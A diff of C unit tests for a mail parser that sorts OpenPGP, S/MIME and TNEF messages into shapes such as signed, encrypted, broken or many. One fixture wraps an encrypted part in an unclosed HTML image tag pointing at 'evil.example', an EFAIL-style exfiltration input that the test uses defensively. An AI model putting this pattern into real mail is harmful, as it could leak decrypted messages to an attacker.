@@ -50,7 +50,8 @@ static void assert_shape(const char *raw, struct expected expected)
 	assert_int_equal(reading->out.whole, expected.whole);
 	if (expected.message != NULL)
 		assert_view_is(reading->out.message, expected.message);
-	if (expected.shape == MAIL_REFUSED) {
+	if (expected.shape == MAIL_REFUSED || expected.shape == MAIL_MANY ||
+	    expected.shape == MAIL_BROKEN) {
 		assert_string_not_equal(reading->out.reason, "");
 		assert_int_equal(reading->out.message.len, 0);
 	}
@@ -78,10 +79,10 @@ static void multipart_encrypted_without_version_part_is_refused(void **state)
 	(void)state;
 	assert_shape("Content-Type: multipart/encrypted; boundary=b\n\n--b\n" DATA_PART
 		     "--b\n" DATA_PART "--b--\n",
-	    (struct expected){MAIL_REFUSED, false, NULL});
+	    (struct expected){MAIL_BROKEN, false, NULL});
 	assert_shape("Content-Type: multipart/encrypted; boundary=b\n\n--b\n" VERSION_PART
 		     "--b--\n",
-	    (struct expected){MAIL_REFUSED, false, NULL});
+	    (struct expected){MAIL_BROKEN, false, NULL});
 }
 
 static void encrypted_in_a_list_mail_with_footer_is_not_whole(void **state)
@@ -144,14 +145,116 @@ static void text_behind_the_last_boundary_is_not_whole(void **state)
 	    SIGNED("b") "Your provider adds this\n", (struct expected){MAIL_SIGNED, false, NULL});
 }
 
-static void signature_of_another_protocol_is_plain(void **state)
+static void smime_and_tnef_have_names_of_their_own(void **state)
 {
 	(void)state;
 	assert_shape(
 	    "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; "
 	    "boundary=b\n\n--b\n\ntext\n--b\nContent-Type: application/pkcs7-signature\n\nMII\n"
 	    "--b--\n",
+	    (struct expected){MAIL_SMIME, false, ""});
+	assert_shape(MIXED "--m\nContent-Type: application/pkcs7-mime\n\nMII\n--m--\n",
+	    (struct expected){MAIL_SMIME, false, ""});
+	assert_shape(MIXED "--m\n\ntext\n--m\nContent-Type: application/ms-tnef; "
+			   "name=winmail.dat\n\nIhsA\n--m--\n",
+	    (struct expected){MAIL_TNEF, false, ""});
+}
+
+static void signature_without_its_bytes_is_lost(void **state)
+{
+	(void)state;
+	assert_shape(MIXED "--m\n\nreceived\n--m\nContent-Type: application/pgp-signature; "
+			   "name=signature.asc\n\n" SIGNATURE "\n--m--\n",
+	    (struct expected){MAIL_SIGNATURE_LOST, false, ""});
+	assert_shape("Content-Type: text/html\n\n<pre>-----BEGIN PGP SIGNED MESSAGE-----\n"
+		     "Hash: SHA256\n\nreceived\n-----BEGIN PGP SIGNATURE-----\n\nabc\n"
+		     "-----END PGP SIGNATURE-----\n</pre>",
+	    (struct expected){MAIL_SIGNATURE_LOST, false, ""});
+}
+
+#define ATTACHED(content)                                                                          \
+	"--m\nContent-Type: application/octet-stream; name=reply.asc\n"                            \
+	"Content-Disposition: attachment\n\n" content "\n"
+
+static void attached_armor_counts_when_there_is_no_other(void **state)
+{
+	(void)state;
+	assert_shape(MIXED "--m\n\nsee attached\n" ATTACHED(ARMOR) "--m--\n",
+	    (struct expected){MAIL_ATTACHED_ENCRYPTED, false, ARMOR});
+	assert_shape(MIXED ATTACHED(ARMOR) "--m--\n",
+	    (struct expected){MAIL_ATTACHED_ENCRYPTED, true, ARMOR});
+	assert_shape(MIXED "--m\n\nsee attached\n" ATTACHED(CLEARTEXT) "--m--\n",
+	    (struct expected){MAIL_ATTACHED_SIGNED, false, CLEARTEXT});
+	assert_shape(MIXED "--m\n\n" ARMOR ATTACHED(ARMOR) ATTACHED(ARMOR) "--m--\n",
+	    (struct expected){MAIL_INLINE_ENCRYPTED, false, ARMOR});
+	assert_shape(MIXED ATTACHED(ARMOR) "--m\n" SIGNED("b") "--m--\n",
+	    (struct expected){MAIL_SIGNED, false, "Content-Type: text/plain\r\n\r\nreceived"});
+	assert_shape(MIXED ATTACHED(ARMOR) ATTACHED(ARMOR) "--m--\n",
+	    (struct expected){MAIL_MANY, false, NULL});
+	assert_shape(
+	    MIXED ATTACHED("text\n" ARMOR) "--m--\n", (struct expected){MAIL_PLAIN, false, ""});
+}
+
+static void signed_mail_inside_an_attached_mail_is_plain(void **state)
+{
+	(void)state;
+	assert_shape(MIXED
+	    "--m\n\nhear, hear\n--m\nContent-Type: message/rfc822\n\n" SIGNED("b") "--m--\n",
 	    (struct expected){MAIL_PLAIN, false, ""});
+}
+
+static void html_around_an_encrypted_part_is_text_outside(void **state)
+{
+	(void)state;
+	assert_shape(MIXED "--m\nContent-Type: text/html\n\n<img src=\"http://evil.example/\n"
+			   "--m\n" ENCRYPTED("b") "--m\nContent-Type: text/html\n\n\">\n--m--\n",
+	    (struct expected){MAIL_ENCRYPTED, false, ARMOR});
+}
+
+static void exchange_form_with_other_names_and_encodings_is_encrypted(void **state)
+{
+	(void)state;
+	assert_shape(MIXED
+	    "--m\nContent-Type: text/plain; charset=us-ascii\n\n\n"
+	    "--m\nContent-Type: application/pgp-encrypted; name=\"ATT00001\"\n"
+	    "Content-Transfer-Encoding: base64\n\nVmVyc2lvbjogMQ0K\n" ATTACHED(ARMOR) "--m--\n",
+	    (struct expected){MAIL_ENCRYPTED, true, ARMOR});
+	assert_shape(MIXED ATTACHED(ARMOR) "--m\nContent-Type: application/pgp-encrypted\n\n"
+					   "Version: 1\n--m--\n",
+	    (struct expected){MAIL_ATTACHED_ENCRYPTED, true, ARMOR});
+}
+
+static void blank_that_does_not_break_is_a_blank_in_armor(void **state)
+{
+	(void)state;
+	assert_shape(
+	    "Content-Type: text/plain; charset=utf-8\n\n-----BEGIN PGP MESSAGE-----\n\xc2\xa0\n"
+	    "hF4Dexample\n=abcd\n-----END PGP MESSAGE-----\n",
+	    (struct expected){MAIL_INLINE_ENCRYPTED, true,
+		"-----BEGIN PGP MESSAGE-----\n  \nhF4Dexample\n=abcd\n-----END PGP "
+		"MESSAGE-----\n"});
+	assert_shape(
+	    "Content-Type: text/plain; charset=iso-8859-1\n\n-----BEGIN PGP MESSAGE-----\n\xa0\n"
+	    "hF4Dexample\n=abcd\n-----END PGP MESSAGE-----\n",
+	    (struct expected){MAIL_INLINE_ENCRYPTED, true,
+		"-----BEGIN PGP MESSAGE-----\n \nhF4Dexample\n=abcd\n-----END PGP MESSAGE-----\n"});
+}
+
+static void armor_in_a_part_of_type_pgp_is_inline(void **state)
+{
+	(void)state;
+	assert_shape("Content-Type: application/pgp; format=text; x-action=sign\n\n" CLEARTEXT,
+	    (struct expected){MAIL_INLINE_SIGNED, true, CLEARTEXT});
+}
+
+static void outer_subject_is_told(void **state)
+{
+	struct reading_outline *reading =
+	    reading_outline_of(VIEW("Subject: =?utf-8?q?Gr=C3=BC=C3=9Fe?=\n x\n\ntext\n"));
+	(void)state;
+	assert_string_equal(reading->out.subject, "Gr\xc3\xbc\xc3\x9f"
+						  "e x");
+	reading_outline_free(reading);
 }
 
 static void inline_message_as_only_text_is_whole(void **state)
@@ -230,19 +333,19 @@ static void armor_without_end_is_refused(void **state)
 {
 	(void)state;
 	assert_shape("Subject: re\n\n-----BEGIN PGP MESSAGE-----\n\nabc\n",
-	    (struct expected){MAIL_REFUSED, false, NULL});
+	    (struct expected){MAIL_BROKEN, false, NULL});
 }
 
 static void two_openpgp_parts_are_refused(void **state)
 {
 	(void)state;
 	assert_shape(MIXED "--m\n" SIGNED("b") "--m\n" SIGNED("c") "--m--\n",
-	    (struct expected){MAIL_REFUSED, false, NULL});
+	    (struct expected){MAIL_MANY, false, NULL});
 	assert_shape(MIXED "--m\n" SIGNED("b") "--m\nContent-Type: text/plain\n\n" ARMOR "--m--\n",
-	    (struct expected){MAIL_REFUSED, false, NULL});
-	assert_shape("Subject: re\n\n" ARMOR ARMOR, (struct expected){MAIL_REFUSED, false, NULL});
+	    (struct expected){MAIL_MANY, false, NULL});
+	assert_shape("Subject: re\n\n" ARMOR ARMOR, (struct expected){MAIL_MANY, false, NULL});
 	assert_shape(MIXED "--m\n" ENCRYPTED("b") "--m\n" VERSION_PART "--m\n" DATA_PART "--m--\n",
-	    (struct expected){MAIL_REFUSED, false, NULL});
+	    (struct expected){MAIL_MANY, false, NULL});
 }
 
 static void two_messages_in_the_encrypted_part_are_refused(void **state)
@@ -250,7 +353,7 @@ static void two_messages_in_the_encrypted_part_are_refused(void **state)
 	(void)state;
 	assert_shape("Content-Type: multipart/encrypted; boundary=b\n\n--b\n" VERSION_PART
 		     "--b\n" DATA_PART ARMOR "--b--\n",
-	    (struct expected){MAIL_REFUSED, false, NULL});
+	    (struct expected){MAIL_MANY, false, NULL});
 }
 
 static void delivery_reports_are_reports(void **state)
@@ -423,7 +526,15 @@ int main(int argc, char **argv)
 	    cmocka_unit_test(multipart_signed_is_cut_and_brought_to_crlf),
 	    cmocka_unit_test(signed_in_a_list_mail_with_footer_is_not_whole),
 	    cmocka_unit_test(text_behind_the_last_boundary_is_not_whole),
-	    cmocka_unit_test(signature_of_another_protocol_is_plain),
+	    cmocka_unit_test(smime_and_tnef_have_names_of_their_own),
+	    cmocka_unit_test(signature_without_its_bytes_is_lost),
+	    cmocka_unit_test(attached_armor_counts_when_there_is_no_other),
+	    cmocka_unit_test(signed_mail_inside_an_attached_mail_is_plain),
+	    cmocka_unit_test(html_around_an_encrypted_part_is_text_outside),
+	    cmocka_unit_test(exchange_form_with_other_names_and_encodings_is_encrypted),
+	    cmocka_unit_test(blank_that_does_not_break_is_a_blank_in_armor),
+	    cmocka_unit_test(armor_in_a_part_of_type_pgp_is_inline),
+	    cmocka_unit_test(outer_subject_is_told),
 	    cmocka_unit_test(inline_message_as_only_text_is_whole),
 	    cmocka_unit_test(inline_message_with_text_around_is_not_whole),
 	    cmocka_unit_test(inline_signed_text_keeps_its_bytes),
